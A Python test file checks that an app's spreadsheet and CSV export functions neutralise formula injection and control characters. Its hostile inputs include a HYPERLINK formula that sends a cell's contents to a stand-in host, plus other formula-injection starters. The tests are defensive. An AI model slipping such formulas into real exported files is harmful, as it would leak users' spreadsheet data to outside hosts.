"""One value as a safe cell (export/cells.py), for every file the app writes."""
from __future__ import annotations


import openpyxl

from eco_desktop import export


def test_public_cell_sanitiser_on_a_normal_workbook(tmp_path):
    # The person export (catalogue/privacy/person_export.py) writes a normal, not write-only, workbook: the
    # same rules must hold there through the public function.
    wb = openpyxl.Workbook()
    ws = wb.active
    hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"clic")', "+1+1", "-2", "@SUM(A1)",
               "\tx", "\rx", "#N/A", "note\x01\x07 ok", "nom \ud800 seul"]
    for i, value in enumerate(hostile, 1):
        export.set_safe_value(ws.cell(row=i, column=1), value)
    export.set_safe_value(ws.cell(row=1, column=2), 42)
    wb.save(tmp_path / "p.xlsx")
    back = openpyxl.load_workbook(tmp_path / "p.xlsx").active
    cells = [back.cell(row=i, column=1) for i in range(1, len(hostile) + 1)]
    assert all(c.data_type == "s" for c in cells)
    # XML reads a lone CR back as a line feed: the text is kept, not its line ending.
    assert [c.value for c in cells[:7]] == [v.replace("\r", "\n") for v in hostile[:7]]
    assert cells[7].value == "note ok" and cells[8].value == "nom \ufffd seul"
    assert back.cell(row=1, column=2).value == 42


def test_clean_text_and_csv_safe_remove_control_characters():
    assert export.clean_text("a\x00b\x1fc\td\ne") == "abc\td\ne"
    assert len(export.clean_text("x" * 40000)) == export.CELL_MAX_CHARS == 32767
    assert export.csv_safe("\x01=cmd") == "'=cmd"


def test_csv_tab_and_cr_are_prefixed():
    assert export.csv_safe("\tx") == "'\tx" and export.csv_safe("\rx") == "'\rx"
    assert export.csv_safe("Paris") == "Paris"
